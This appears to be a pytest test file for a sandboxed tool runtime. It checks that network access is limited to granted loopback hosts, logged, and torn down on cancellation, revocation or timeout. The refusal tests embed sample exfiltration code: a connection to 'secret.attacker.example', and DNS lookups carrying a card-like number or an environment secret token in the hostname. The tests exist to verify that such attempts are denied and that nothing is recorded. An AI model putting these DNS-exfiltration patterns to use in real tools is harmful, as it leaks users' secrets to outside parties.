"""Calls of tools that were granted hosts: what they reach, what is told of it, and what ends with them.

Servers are on loopback of this host, and granted by their address, or by the name ``localhost``.
"""

from __future__ import annotations

import functools
import os
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from egress_room import Server, echo
from eventually import until
from hosts import granted
from mcp_servers import server as mcp_server
from mpp_exec.calls.prepared import Temporary
from mpp_exec.calls.result import ToolResult
from mpp_exec.calls.withdraw import Cancellation
from mpp_exec.consent.config import Settings
from mpp_exec.errors import HostError
from mpp_exec.package.manifest import ConfigField
from mpp_exec.permissions import Permissions
from sandbox_lab import UNHURRIED, bounded, descendants
from stage import NAME, Stage

ECHO = """
import socket

def run(host, port, text="hello"):
    with socket.create_connection((host, port), 20) as client:
        client.sendall(text.encode())
        client.shutdown(socket.SHUT_WR)
        return client.makefile().read()
"""
HOLD = """
import socket

def run(host, port):
    client = socket.create_connection((host, port), 20)
    client.sendall(b"begun")
    return client.recv(10).decode()
"""
SERVER = """
    import socket
    with socket.create_connection((params["arguments"]["host"], params["arguments"]["port"]), 20) as client:
        client.sendall(b"hello")
        client.shutdown(socket.SHUT_WR)
        say(id=name, result=text(client.makefile().read()))
"""


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[Stage]:
    tmp_path.chmod(0o755)
    with Stage(tmp_path) as made:
        yield made


def local(peer: Server, *more: str, host: str = "127.0.0.1") -> Permissions:
    return Permissions(network=granted(f"{host}:{peer.port}", *more))


def reach(stage: Stage, peer: Server, host: str = "127.0.0.1", **arguments: Any) -> ToolResult:
    return stage.runtime.call(NAME, "run", {"host": host, "port": peer.port, **arguments})


def network_of(stage: Stage, invocation: str) -> dict[str, Any]:
    """Return what the ledger says of the network of a call."""
    entry = stage.runtime.ledger.show(invocation)
    assert entry.ending is not None
    found = entry.ending.to_json().get("network", {})
    assert isinstance(found, dict)
    return found


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_granted_host_is_reached_and_on_record(stage: Stage, peer: Server, host: str) -> None:
    stage.python(ECHO, permissions=local(peer, host=host))
    result = reach(stage, peer, host)
    assert result.structured == {"result": "hello"}, result.told()
    assert result.meta["mpp-exec/network"] == {"connections": 1, "denied": 0, "sent": 5, "received": 5}
    told = network_of(stage, result.invocation)
    (made,) = told.pop("connections")
    assert made.pop("at") > 0
    address = {"host": host, "port": peer.port, "address": "127.0.0.1"}
    assert made == {**address, "sent": 5, "received": 5}
    assert told == {"sent": 5, "received": 5}


def test_prepared_sandboxes_reach_it_as_well(stage: Stage, peer: Server) -> None:
    """Each has a way out of its own, which begins with its call."""
    stage.python(ECHO, permissions=local(peer))
    for number in range(6):
        result = reach(stage, peer, text=f"{number}")
        assert result.structured == {"result": f"{number}"}, result.told()
        if number:  # what is called once is not kept ready
            assert until(lambda: stage.runtime._open().sandboxes.waiting > 0)
    assert "release" in {name.rpartition(".")[2] for name in result.meta["mpp-exec/timing"]}


def test_a_server_of_mcp_reaches_it(stage: Stage, peer: Server) -> None:
    stage.server(mcp_server(SERVER), permissions=local(peer))
    for _ in range(3):
        result = reach(stage, peer)
        assert result.content == [{"type": "text", "text": "hello"}], result.told()


WHERE = """
import socket

def run():
    return socket.gethostbyname(socket.gethostname())
"""


def test_the_name_of_the_machine_inside_is_no_host_that_was_refused(stage: Stage, peer: Server) -> None:
    """Git asks for it, and mail programs do."""
    stage.python(WHERE, permissions=local(peer))
    result = stage.runtime.call(NAME)
    assert result.structured == {"result": "127.0.1.1"}, result.told()
    assert result.meta["mpp-exec/network"]["denied"] == 0


PROGRAMS = """
import subprocess

def run(*words):
    done = subprocess.run(words, capture_output=True, text=True)
    return [done.returncode, done.stdout[-200:], done.stderr[-200:]]

def curl(url):
    return run("curl", "--silent", "--show-error", url)

def clone(url):
    return run("git", "clone", "--quiet", url, "/tmp/copy")
"""


@pytest.fixture
def site(tmp_path: Path) -> Iterator[int]:
    """Serve a page, and a repository, on a port of this host's loopback."""
    root, made = tmp_path / "site", tmp_path / "made"
    root.mkdir()
    (root / "page").write_text("hello")
    who = ["-c", "user.name=x", "-c", "user.email=x@example.com"]
    for words in (
        ["init", "--quiet", os.fspath(made)],
        ["-C", os.fspath(made), *who, "commit", "--quiet", "--allow-empty", "-m", "first"],
        ["clone", "--quiet", "--bare", os.fspath(made), os.fspath(root / "it.git")],
        ["-C", os.fspath(root / "it.git"), "update-server-info"],
    ):
        subprocess.run(["git", *words], check=True)
    handler = functools.partial(SimpleHTTPRequestHandler, directory=root)
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
@pytest.mark.parametrize(("program", "page"), [("curl", "page"), ("git", "it.git")])
def test_programs_that_were_granted_reach_hosts_that_were(
    stage: Stage, site: int, program: str, page: str, host: str
) -> None:
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed here; CI installs it")
    function = {"curl": "curl", "git": "clone"}[program]
    stage.python(
        PROGRAMS,
        function=function,
        permissions=Permissions(network=granted(f"{host}:{site}"), subprocess=(program,)),
    )
    result = stage.runtime.call(NAME, arguments={"url": f"http://{host}:{site}/{page}"})
    assert result.structured is not None
    status, said, complained = result.structured["result"]
    assert (status, complained) == (0, ""), complained
    assert said == ("hello" if program == "curl" else "")
    assert result.meta["mpp-exec/network"]["denied"] == 0


class TestWhatIsRefused:
    def test_another_port_and_name_and_address(self, stage: Stage, peer: Server) -> None:
        other = Server(echo)
        stage.python(
            "import socket\n"
            "def run(places):\n"
            "    for host, port in places:\n"
            "        try: socket.create_connection((host, port), 5)\n"
            "        except OSError as error: print(error)\n"
            "    return len(places)\n",
            permissions=local(peer, "localhost:1", "api.example.com:443"),
        )
        places = [
            ["127.0.0.1", other.port],
            ["secret.attacker.example", peer.port],
            ["localhost", peer.port + 1],
            ["192.0.2.7", peer.port],
        ]
        result = stage.runtime.call(NAME, "run", {"places": places})
        other.close()
        assert result.structured == {"result": 4}
        assert result.meta["mpp-exec/network"]["connections"] == 0
        told = {each["tried"]: each.get("toml") for each in result.denials}
        lines = {f"{host}:{port}": f'network = ["{host}:{port}"]' for host, port in places[:3]}
        assert told == {**lines, f"[IP_ADDRESS]:{peer.port}": None}, "an address that nobody was shown yet"
        assert not other.came
        assert network_of(stage, result.invocation)["denied"] == [
            {"host": "secret.attacker.example", "port": 0, "why": "name"}
        ]

    def test_a_name_with_sensitive_data_stands_on_no_record(self, stage: Stage, peer: Server) -> None:
        """Whoever cannot send a value may try to leave it where it is kept."""
        stage.python(
            "import socket\n"
            "def run():\n"
            "    try: socket.getaddrinfo('4111111111111111.example.com', 443)\n"
            "    except OSError: return 1\n",
            permissions=local(peer),
        )
        result = stage.runtime.call(NAME, "run", {})
        assert result.meta["mpp-exec/network"]["denied"] == 1
        assert "4111111111111111" not in str(result.meta) + result.denied
        assert "4111111111111111" not in str(network_of(stage, result.invocation))

    def test_a_secret_in_a_name_stands_on_no_record(self, stage: Stage, peer: Server) -> None:
        """Names are told in lower case, however a tool writes them: so is the secret looked for."""
        field = ConfigField("token", "string", required=True, sensitive=True, env="TOKEN")
        stage.python(
            "import os, socket\n"
            "def run():\n"
            "    for name in ('example.com', 'granted.example.com'):\n"
            "        try: socket.getaddrinfo(os.environ['TOKEN'] + '.' + name, 443)\n"
            "        except OSError: pass\n"
            "        else: ended(os.environ['TOKEN'] + '.' + name)\n"
            "def ended(name):\n"
            "    try: socket.create_connection((name, 1)).recv(1)\n"
            "    except OSError: pass\n",
            permissions=local(peer, "*.granted.example.com:1"),
            user_config=(field,),
            settings=Settings(secrets={"token": "Correct-Horse-Battery"}),
        )
        result = stage.runtime.call(NAME, "run", {})
        told = (
            str(result.told()) + str(result.meta) + result.denied + str(network_of(stage, result.invocation))
        )
        assert result.meta["mpp-exec/network"]["denied"] == 2, told
        assert "correct-horse" not in told.lower()


class TestTheEnd:
    """Nothing of it outlives the call."""

    def began(
        self, stage: Stage, peer: Server, work: Callable[[Cancellation], object], **changes: Any
    ) -> ToolResult:
        """Return what came of a call that *work* was done to once it had connected."""
        stage.python(HOLD, permissions=local(peer), **changes)
        cancellation = Cancellation()
        arguments = {"host": "127.0.0.1", "port": peer.port}
        with ThreadPoolExecutor(1) as one:
            future = one.submit(
                stage.runtime.call, NAME, "run", arguments, cancellation=cancellation, timeout=100
            )
            assert heard.acquire(timeout=50)
            work(cancellation)
            return future.result(50)

    @pytest.fixture
    def silent(self) -> Iterator[Server]:
        """Says when a connection has come, and nothing else."""

        def hold(connection: Any) -> None:
            assert connection.recv(5) == b"begun"
            heard.release()
            connection.recv(1)

        made = Server(hold)
        yield made
        made.close()

    def test_a_call_that_is_cancelled(self, stage: Stage, silent: Server) -> None:
        result = self.began(stage, silent, Cancellation.set)
        assert result.outcome == "killed"
        assert silent.ended.acquire(timeout=50), "the connection ended"
        assert network_of(stage, result.invocation)["sent"] == 5

    def test_a_grant_that_is_withdrawn(self, stage: Stage, silent: Server) -> None:
        result = self.began(stage, silent, lambda _: stage.runtime.store.revoke(NAME))
        assert result.outcome == "killed"
        assert silent.ended.acquire(timeout=50), "the connection ended"

    def test_what_was_sent_and_not_taken_ends_with_the_grant(
        self, stage: Stage, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Whoever reads slowly would be told of it for as long as it likes."""
        over = threading.Event()

        def slow(connection: Any) -> None:
            assert connection.recv(5) == b"begun"
            heard.release()
            over.wait(50)

        monkeypatch.setitem(globals(), "HOLD", HOLD.replace('b"begun"', 'b"begun" + bytes(600_000)'))
        reader = Server(slow)
        result = self.began(stage, reader, lambda _: stage.runtime.store.revoke(NAME))
        over.set()
        assert result.outcome == "killed"
        assert reader.ended.acquire(timeout=50)
        assert reader.came[0].endswith(b"<reset>")
        assert len(reader.came[0]) < 600_000
        reader.close()

    def test_a_call_that_ran_out_of_time(self, stage: Stage, silent: Server) -> None:
        result = self.began(stage, silent, bool, limits=bounded(wall_ms=UNHURRIED.wall_ms // 10))
        assert result.outcome == "timeout"
        assert silent.ended.acquire(timeout=50), "the connection ended"

    def test_the_broker_dies_in_the_middle(self, stage: Stage, silent: Server) -> None:
        """The connection ends, and the tool has what is left of its time; the next call has another."""

        def kill(_: object) -> None:
            broker = stage.runtime._open().broker()
            assert broker._process is not None
            broker._process.kill()

        result = self.began(stage, silent, kill)
        assert silent.ended.acquire(timeout=50), "the connection ended"
        assert result.meta["mpp-exec/network"]["lost"] is True
        assert network_of(stage, result.invocation)["lost"] is True
        peer = Server(echo)
        stage.python(ECHO, permissions=local(peer), version="2.0.0")
        assert reach(stage, peer).structured == {"result": "hello"}
        peer.close()

    def test_a_runtime_that_is_closed_leaves_no_process(self, stage: Stage, peer: Server) -> None:
        before = descendants(os.getpid())
        stage.python(ECHO, permissions=local(peer))
        reach(stage, peer)
        assert descendants(os.getpid()) > before
        stage.runtime.close()
        assert descendants(os.getpid()) <= before


heard = threading.Semaphore(0)


def test_without_a_broker_nothing_runs(stage: Stage, peer: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise HostError("host.broker_test", "cannot be confined", "")

    stage.python(ECHO, permissions=local(peer))
    broker = stage.runtime._open().broker()
    monkeypatch.setattr(type(broker), "open", refuse)
    with pytest.raises(HostError) as refused:
        reach(stage, peer)
    assert refused.value.exit_code == 5
    assert not peer.came
    (entry,) = stage.runtime.ledger.list(limit=1)
    assert entry.outcome == "failed"


def test_a_traced_call_says_what_it_did_not_reach(stage: Stage, peer: Server) -> None:
    stage.python(ECHO, permissions=local(peer))
    with stage.runtime.preparer.prepared(NAME, "run") as prepared:
        temporary = Temporary(prepared.grant, {})
    result, trace = stage.runtime.trace(
        NAME, "run", {"host": "other.example.com", "port": peer.port}, temporary
    )
    assert result.is_error
    assert trace.asked.refused == (("other.example.com", 0, "name"),)
    result, trace = stage.runtime.trace(NAME, "run", {"host": "127.0.0.1", "port": peer.port}, temporary)
    assert result.structured == {"result": "hello"}
    assert trace.asked.refused == ()
    assert trace.asked.reached == (("127.0.0.1", peer.port),)
